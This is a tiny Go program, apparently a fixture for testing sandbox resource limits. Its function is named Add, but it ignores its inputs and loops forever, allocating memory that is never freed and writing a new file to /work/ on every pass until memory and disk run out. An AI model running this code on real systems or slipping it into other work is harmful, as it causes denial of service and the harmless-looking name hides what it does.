// takes memory and fills the disk
package main

import (
	"fmt"
	"os"
)

func Add(a, b int) int {
	var all [][]byte
	for i := 0; ; i++ {
		all = append(all, make([]byte, 1<<20))
		all[i][7] = 1
		os.WriteFile(fmt.Sprint("/work/", i), all[i], 0o600)
	}
}

func main() { Add(1, 2) }
